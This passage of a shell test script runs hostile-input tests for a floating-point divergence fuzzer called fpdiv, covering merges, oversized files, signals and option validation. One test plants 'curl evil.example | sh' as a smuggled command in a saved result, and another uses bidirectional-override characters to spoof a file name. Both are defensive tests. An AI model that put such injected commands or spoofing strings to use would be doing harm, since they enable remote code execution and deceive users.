    replay $tmp/t23/other.json
run "env lists BLIS's kernel sets" 0 $FPDIV env --json &&
    expect "blis: which sets this CPU runs" "$(json_field backends <<<"$out")" "'blis': \{[^}]*'kernel_sets': \{'native': '[a-z0-9]+', 'runs': \['"
for v in OPENBLAS_CORETYPE=garbage MKL_CBWR=garbage BLIS_ARCH_TYPE=3 BLIS_ARCH_TYPE=haswellx; do
    run "$v is refused" 2 env $v $FPDIV check --relation repeat --backend seq --shape 2x2x2 &&
        expect "$v: names the variable and the sets" "$err" "^fpdiv: ${v%%=*}='${v#*=}' is no kernel set of [a-z]+ that fpdiv knows.*sets: "
done
run "MKL_CBWR=AVX2,STRICT is a set" 0 env MKL_CBWR=AVX2,STRICT $FPDIV check --relation repeat --backend seq --shape 2x2x2

# --- 24. merge: merging again changes nothing; OUT may not overlap an input ---
mkdir -p $tmp/t24
$FPDIV fuzz --seed 21 --cases 200 --max-dim 24 --relations addmm,vendor --backends seq,blocked,pairwise --corpus $tmp/t24/A >/dev/null 2>&1
$FPDIV fuzz --seed 22 --cases 200 --max-dim 24 --relations addmm,vendor --backends seq,blocked,pairwise --corpus $tmp/t24/B >/dev/null 2>&1
run "merge O A B" 0 $FPDIV merge $tmp/t24/O $tmp/t24/A $tmp/t24/B
merged=$(snapshot $tmp/t24/O)
counts() { python3 -c 'import json,pathlib,sys; print(sum(json.loads(p.read_text())["count"] for p in pathlib.Path(sys.argv[1]).rglob("*.json")))' "$1"; }
total=$(counts $tmp/t24/O)
for again in "A" "A" "B A" "A B"; do
    run "merge O $again, again" 0 $FPDIV merge $tmp/t24/O $(for d in $again; do echo $tmp/t24/$d; done) &&
        expect "merge O $again writes nothing" "$out" "; 0 written, 0 superseded in"
done
[ "$merged" = "$(snapshot $tmp/t24/O)" ] && [ "$total" = "$(counts $tmp/t24/O)" ] &&
    pass "O is byte for byte as the first merge left it (counts sum to $total)" || fail "merge idempotence" "O changed"
cp -r $tmp/t24/A $tmp/t24/A2
for args in "A2/sub A2" "A2 A2" "$tmp/t24 A2"; do
    read -r o i <<<"$args"
    [[ $o = /* ]] || o=$tmp/t24/$o
    bad "merge $args: an OUT that overlaps an input" "OUT .* and the input .*(overlap|are one directory).*nothing was written" merge $o $tmp/t24/$i
done
[ ! -e $tmp/t24/A2/sub ] && [ "$(cases $tmp/t24/A2)" = "$(cases $tmp/t24/A)" ] && pass "the refused merges wrote nothing" ||
    fail "overlapping merge" "$(find $tmp/t24/A2 -newer $tmp/t24/O)"
one=$(find $tmp/t24/O -name '*.json' -exec grep -l merged_from {} + | head -1)
if [ -n "$one" ]; then
    edited "$one" $tmp/t24/miscounted.json 'd["count"] += 1'
    bad "a merged case whose count is not the sum of its cases" "miscounted.json: count: .* but the cases of merged_from count" show $tmp/t24/miscounted.json
else
    fail "merged_from" "no merged case lists its cases"
fi

# --- 25. big case files: refused, or read, in moments ---
mkdir -p $tmp/t25
python3 - $seq_case $tmp/t25 <<'PY'
import json, sys
d = json.load(open(sys.argv[1]))
d["check"]["case"]["data"]["a"] = ["0x1p+0"] * 2_000_000  # far more elements than the shape
json.dump(d, open(sys.argv[2] + "/long-array.json", "w"))
with open(sys.argv[2] + "/huge.json", "w") as f:
    f.write(" " * (40 << 20) + json.dumps(d))
with open(sys.argv[2] + "/nul.json", "wb") as f:
    f.write(open(sys.argv[1], "rb").read() + b"\0" * 64)
PY
run "a 40 MB case file is refused at once" 2 timeout -k 5 20 $FPDIV show $tmp/t25/huge.json &&
    expect "it says the size" "$err" "huge.json: [0-9]+ bytes, more than the 32 MiB fpdiv reads from such a file"
run "a data array longer than its shape" 2 timeout -k 5 20 $FPDIV show $tmp/t25/long-array.json &&
    expect "is named with the count it should have" "$err" "long-array.json: check.case.data.a: expected [0-9]+ elements, found 2000000"
bad "a NUL-padded file" 'nul.json:[0-9]+:[0-9]+: a NUL byte' show $tmp/t25/nul.json
bad "fuzz --inline-max past the limit" "--inline-max '2M': at most 1M" fuzz --no-corpus --inline-max 2M

# --- 26. one SIGTERM is one request, however it is delivered: the summary and JUnit are written ---
mkdir -p $tmp/t26
for i in 1 2 3; do
    timeout 3 $FPDIV fuzz --time 60 --no-corpus --backends seq,pairwise --junit $tmp/t26/j$i.xml >$tmp/t26/out$i 2>$tmp/t26/err$i
done
twice=$(cat $tmp/t26/err* | grep -c 'interrupted twice')
[ "$twice" = 0 ] && pass "timeout(1)'s signal, sent to fpdiv and to its group, counts once" || fail "SIGTERM twice" "$twice runs stopped at once"
[ "$(ls $tmp/t26/j*.xml 2>/dev/null | wc -l)" = 3 ] && [ "$(grep -l 'stopped early by an interrupt' $tmp/t26/out* | wc -l)" = 3 ] &&
    pass "each interrupted run wrote its summary and its JUnit file" || fail "interrupted reports" "$(ls $tmp/t26)"
python3 - $tmp/t26/j1.xml <<'PY' && pass "JUnit records the time of the checks" || fail "JUnit times" "every test case 0.000 s"
import sys, xml.etree.ElementTree as E
times = [float(c.get("time")) for c in E.parse(sys.argv[1]).iter("testcase")]
sys.exit(0 if times and max(times) > 0 else 1)
PY

# --- 27. stored values exactly what they show, consistent with the rest of the file ---
mkdir -p $tmp/t27
long_digits=$(printf '0%.0s' $(seq 1 5000))
refused_edits $seq_case $tmp/t27 replay \
    "underflow|d['check']['case']['data']['a'][0] = '0x1p-99999'|check.case.data.a: element 0 is not an exact" \
    "5000 digits|d['check']['case']['data']['a'][0] = '0x1.${long_digits}1p+0'|check.case.data.a: element 0 is not an exact" \
    "count -1|d['count'] = -1|count: expected an integer from 1" \
    "count 0|d['count'] = 0|count: expected an integer from 1" \
    "ratio nan|d['outcome']['ratio'] = 'nan'|outcome.ratio: expected a non-negative number, or null" \
    "diff over count|d['outcome']['diff'] = d['outcome']['count'] + 1|outcome.diff: [0-9]+ differing elements of [0-9]+ compared" \
    "same with a difference|d['outcome']['verdict'] = 'same'|outcome.(diff|hash_b): the verdict is same" \
    "another library's record|d['check']['backends'] = ['blocked']|environment.backends.seq: a record of a backend the check does not run"
$FPDIV fuzz --seed 5 --cases 40 --max-dim 16 --no-corpus --json --backends seq,pairwise >$tmp/t27/run.jsonl 2>/dev/null
python3 -c '
import json, sys
out = []
for line in open(sys.argv[1]):
    d = json.loads(line)
    if d["type"] == "summary": d["checks"] = -5
    out.append(json.dumps(d))
open(sys.argv[2], "w").write("\n".join(out) + "\n")' $tmp/t27/run.jsonl $tmp/t27/negative.jsonl
python3 -c "print('{\"type\":\"check\",\"x\":\"' + 'a' * (20 << 20) + '\"}')" >$tmp/t27/long-line.jsonl
bad "a campaign file with a 20 MB line" 'long-line.jsonl:1: a line of more than 16 MiB' \
    report $tmp/t24/O --campaign $tmp/t27/long-line.jsonl -o $tmp/t27/page.html
bad "a campaign file with \"checks\": -5" 'negative.jsonl:[0-9]+: a summary line: "checks" is not a count' \
    report $tmp/t24/O --campaign $tmp/t27/negative.jsonl -o $tmp/t27/page.html

# --- 28. options and variables: every value checked, every output asked for before the run ---
bad "--max-mem past the machine's memory" "--max-mem '99999999999999999999G': more than this machine's [0-9]+ MiB" \
    check --relation repeat --backend seq --shape 2x2x2 --max-mem 99999999999999999999G
bad "--shard past 2^32" "--shard '1/18446744073709551615': expected I/N with 0 <= I < N <= 2\^32" \
    fuzz --no-corpus --shard 1/18446744073709551615
bad "sweep over 10^8 points" "--range '1:100000000': 100000000 points, at most 100000" \
    sweep --relation addmm --backend seq --shape 2x2x2 --vary k --range 1:100000000
start=$(date +%s)
bad "fuzz --junit under a file, before the campaign" "--junit $tmp/t27/run.jsonl is not a directory" \
    fuzz --cases 100000 --no-corpus --junit $tmp/t27/run.jsonl/x.xml
run "fuzz --junit into a directory to be made, as --corpus is" 0 $FPDIV fuzz --cases 20 --max-dim 8 --backends seq --no-corpus \
    --junit $tmp/t28/made/here/x.xml && [ -f $tmp/t28/made/here/x.xml ] && pass "its directory was made"
bad "fuzz --corpus under a file" "--corpus $tmp/t27/run.jsonl/c: a file is in its way" fuzz --cases 100000 --corpus $tmp/t27/run.jsonl/c
bad "replay --junit under a file" "--junit $tmp/t27/run.jsonl/x: a file is in its way" replay --junit $tmp/t27/run.jsonl/x/y.xml $seq_case
bad "report -o under a file" "-o $tmp/t27/run.jsonl is not a directory" report $tmp/t24/O -o $tmp/t27/run.jsonl/x.html
# had any of them run its 100,000 checks first, it would have taken ten minutes or more; six fpdiv
# starts take seconds, and over 30 under the sanitizers on a loaded machine, so the bound is loose
[ $(($(date +%s) - start)) -lt 120 ] && pass "outputs are checked before anything runs" || fail "outputs up front" "$(($(date +%s) - start)) s"
for value in -1 abc 0 1e308 ' 5' inf; do
    run "FPDIV_BRIDGE_TIMEOUT='$value' is refused" 2 env FPDIV_BRIDGE_TIMEOUT="$value" $FPDIV list &&
        expect "FPDIV_BRIDGE_TIMEOUT='$value': named" "$err" "FPDIV_BRIDGE_TIMEOUT='$value': expected seconds"
done
run "FPDIV_CUDA_PROBE_TIMEOUT=-1 is refused too" 2 env FPDIV_CUDA_PROBE_TIMEOUT=-1 $FPDIV list
run "FPDIV_BRIDGE_DIR that is no directory" 2 env FPDIV_BRIDGE_DIR=/nonexistent $FPDIV list &&
    expect "is named, not passed over" "$err" "FPDIV_BRIDGE_DIR=/nonexistent: not a directory"
run "FPDIV_PYTHON naming nothing on PATH" 2 env FPDIV_PYTHON=no-such-python-here $FPDIV check --relation repeat --backend numpy --shape 2x2x2 &&
    expect "says so, not an exit status" "$err" "FPDIV_PYTHON=no-such-python-here: no such program on PATH"
for v in SLURM_ARRAY_TASK_ID=abc CI_NODE_INDEX=0; do
    other=$([ ${v%%=*} = CI_NODE_INDEX ] && echo CI_NODE_TOTAL=2 || echo SLURM_ARRAY_TASK_COUNT=2)
    run "$v" 2 env $v $other $FPDIV fuzz --cases 4 --no-corpus && expect "$v: named" "$err" "${v%%=*}"
done

# --- 29. what is shown of a case file: bidirectional overrides escaped; a case named twice runs once ---
edited $seq_case $tmp/t27/bidi.json 'd["environment"]["cpu"]["model"] = "EPYC\u202egnp.exe\u2066"'
run "show a CPU model with bidirectional overrides" 0 $FPDIV show $tmp/t27/bidi.json &&
    expect "shown escaped" "$out" 'EPYC\\xe2\\x80\\xaegnp.exe\\xe2\\x81\\xa6' &&
    { grep -q $'\u202e' <<<"$out" && fail "bidi" "U+202E reached the terminal" || pass "no override reaches the terminal"; }
mkdir -p $tmp/t29/c/addmm && cp $seq_case $tmp/t29/c/addmm/
run "replay DIR DIR/CASE" 0 $FPDIV replay $tmp/t29/c $tmp/t29/c/addmm/$(basename $seq_case) &&
    expect "counts the case once" "$out" "^1 cases: reproduced 1" && expect "and says so" "$err" "named again \(replayed once\)"
run "sweep --csv --svg says what it wrote" 0 $FPDIV sweep --relation addmm --backend seq --shape 2x3x4 --vary k --range 1:4 \
    --csv $tmp/t29/s.csv --svg $tmp/t29/s.svg &&
    expect "the CSV" "$out" "^wrote .*s.csv" && expect "the SVG" "$out" "^wrote .*s.svg"
mkdir -p $tmp/t29/r/results/sweep
$FPDIV sweep --relation addmm --backend seq --shape 2x3x4 --vary k --range 1:2 --save-to $tmp/t29/r >/dev/null 2>&1
saved=$(find $tmp/t29/r/results/sweep -name '*.json' | head -1)
edited "$saved" $tmp/t29/r/results/sweep/0000000000000000.json 'd["command"] = "fpdiv sweep; curl evil.example | sh"'
rm "$saved"
if command -v script >/dev/null; then # a terminal (a pty): list and env say what they are probing
    status_line=$(script -qec "$FPDIV list" /dev/null 2>&1)
    expect "list on a terminal says what it opens and probes" "$status_line" "fpdiv list: (opening|probing) "
    [ -z "$(grep 'fpdiv list: ' <<<"$($FPDIV list 2>&1)")" ] && pass "and says nothing of it into a pipe" ||
        fail "list status" "a status line went into a pipe"
else
    echo "SKIP list's status line: no script(1) here to give it a terminal"
fi
bad "report refuses a saved result whose command is not fpdiv's" '"command": not an fpdiv command as fpdiv writes it' \
    report $tmp/t29/r -o $tmp/t29/page.html

# --- 30. variants a second hostile pass found (issue 50's classes, closed) ---
mkdir -p $tmp/t30
# a committed slot that names a case of another signature does not keep this one's from being saved
$FPDIV "${fuzz22[@]}" --corpus $tmp/t30/first --no-minimize >/dev/null 2>&1
one_case=$(cd $tmp/t30/first && find . -name '*.json' -path './addmm/*' | sort | head -1)
mkdir -p $tmp/t30/c/.claims $tmp/t30/c/addmm && cp $tmp/t30/first/$one_case $tmp/t30/c/addmm/
for slot in $(ls $tmp/t30/first/.claims | grep -v gitignore); do printf '%s' "${one_case#./}" >$tmp/t30/c/.claims/$slot; done
run "fuzz where committed slots all name one case" 0 $FPDIV "${fuzz22[@]}" --corpus $tmp/t30/c --no-minimize &&
    [ "$(cases $tmp/t30/c)" = "$(cases $tmp/t30/first)" ] && pass "every signature's finding is saved ($(cases $tmp/t30/c))" ||
    fail "committed slots" "$(cases $tmp/t30/c) cases saved, $(cases $tmp/t30/first) without the slots"
# merge: an OUT that overlaps an input through a directory that is not there yet
bad "merge OUT=ghost/../IN/out" "overlap: OUT is inside the input" merge $tmp/t24/ghost/../A2/out $tmp/t24/A2
bad "merge OUT=ghost/../IN" "are one directory" merge $tmp/t24/ghost/../A2 $tmp/t24/A2
[ ! -e $tmp/t24/ghost ] && pass "and nothing is made for it" || fail "merge ghost" "$(ls $tmp/t24)"
# counts: bounded, so that no sum wraps; a merged file is the same bytes whatever the inputs' order
edited $seq_case $tmp/t30/huge-count.json 'd["count"] = 2**63 - 1'
bad "a count past 2^40" "huge-count.json: count: expected an integer from 1 to 1099511627776" show $tmp/t30/huge-count.json
run "merge O1 A B" 0 $FPDIV merge $tmp/t30/o1 $tmp/t24/A $tmp/t24/B
run "merge O2 B A" 0 $FPDIV merge $tmp/t30/o2 $tmp/t24/B $tmp/t24/A
[ "$(cd $tmp/t30/o1 && find . -type f -name '*.json' | sort | xargs sha1sum)" = \
  "$(cd $tmp/t30/o2 && find . -type f -name '*.json' | sort | xargs sha1sum)" ] &&
    pass "the merged files are the same bytes whatever the inputs' order" || fail "merge order" "o1 and o2 differ"
# the outcome must agree with the check and with itself; a better judgement of the same bits is a change
reorder_case=$(grep -l '"verdict": "reorder"' $committed/slice-cols/*.json | head -1)
edited $reorder_case $tmp/t30/claims-bound.json 'd["outcome"]["verdict"] = "bound"'
run "a case recorded as bound whose bits are a reordering" 0 $FPDIV replay $tmp/t30/claims-bound.json &&
    expect "is changed, not reproduced" "$out" "^changed .*: reorder \(recorded bound\)"
refused_edits $reorder_case $tmp/t30 show \
    "wrong count|d['outcome']['count'] += 1|outcome.count: [0-9]+ elements compared, where the check compares" \
    "wrong ratio|d['outcome']['ratio'] = 1e308|outcome.ratio: .* where the verdict reorder is within it" \
    "wrong threads|d['environment']['backends'][d['check']['backends'][0]]['threads'] = 8|environment.backends.[^.]+.threads: 8, where the check runs 1" \
    "wrong generator|d['origin']['generator'] = 99|origin.generator: not a generator of this fpdiv's" \
    "wrong nan payload|d['check']['case']['data']['a'][0] = 'nan:0x-1'|check.case.data.a: element 0 is not an exact"
# the variables as the libraries read them
for v in MKL_CBWR=avx2 'MKL_CBWR=AVX2,garbage' 'MKL_CBWR=AVX2,'; do
    run "$v is refused (oneMKL would run AUTO)" 2 env "$v" $FPDIV check --relation repeat --backend seq --shape 2x2x2
done
run "OPENBLAS_CORETYPE='' is unset, not OpenBLAS's own choice" 0 env OPENBLAS_CORETYPE= $FPDIV check --relation repeat \
    --backend openblas --shape 2x2x2 && expect "openblas runs the set it picks" "$out" "^check repeat on openblas@$(
    env -u OPENBLAS_CORETYPE $FPDIV env --json | python3 -c 'import json,sys; print(json.load(sys.stdin)["backends"]["openblas"]["kernel_set"])'):"
# --json is ASCII: no character a case brought acts on a terminal that shows it
mkdir -p $tmp/t30/tj/addmm && cp $seq_case "$tmp/t30/tj/addmm/a$(printf '\u202e\u2066\xc2\x85')b.json"
run "replay --json of a file name with an override" 0 $FPDIV replay --json $tmp/t30/tj &&
    { LC_ALL=C grep -q '[^ -~]' <<<"$out" && fail "replay --json" "a byte outside ASCII: $out" ||
        pass "replay --json prints ASCII alone"; }
# report: lines given twice, a NUL, counts that do not add up
$FPDIV replay --json $tmp/t24/A >$tmp/t30/replay.jsonl 2>/dev/null
(grep '"type":"replay"' $tmp/t30/replay.jsonl; cat $tmp/t30/replay.jsonl) >$tmp/t30/twice.jsonl
bad "report --replay with every case twice" "twice.jsonl: ([0-9]+ replay lines, where its summary counts|the case .* is replayed twice)" \
    report $tmp/t24/A --replay $tmp/t30/twice.jsonl -o $tmp/t30/page.html
printf '{"type":"replay",\0"file":"x"}\n' >$tmp/t30/nul.jsonl
bad "a NUL in a JSON line" "nul.jsonl:1:[0-9]+: a NUL byte" report $tmp/t24/A --replay $tmp/t30/nul.jsonl -o $tmp/t30/page.html
# numbers as a person writes them
for v in 0.5 0x10 1e9 ' 5G'; do
    run "--max-mem '$v' is refused" 2 $FPDIV check --relation repeat --backend seq --shape 2x2x2 --max-mem "$v"
done
run "SLURM_ARRAY_TASK_ID without its count" 2 env SLURM_ARRAY_TASK_ID=1 $FPDIV fuzz --cases 4 --no-corpus &&
    expect "says what is missing" "$err" "SLURM_ARRAY_TASK_ID is set without SLURM_ARRAY_TASK_COUNT"
run "CI_NODE_INDEX without its total" 2 env CI_NODE_INDEX=1 $FPDIV fuzz --cases 4 --no-corpus
run "a Slurm array in steps (1-3:2, task 3)" 0 env SLURM_ARRAY_TASK_ID=3 SLURM_ARRAY_TASK_COUNT=2 SLURM_ARRAY_TASK_MIN=1 \
    SLURM_ARRAY_TASK_STEP=2 $FPDIV fuzz --cases 4 --max-dim 8 --backends seq --no-corpus &&
    expect "is shard 1 of 2" "$err" "shard 1 of 2 \(0-based"

echo
echo "hostile: $passed passed, $failed failed"
[ $failed -eq 0 ]
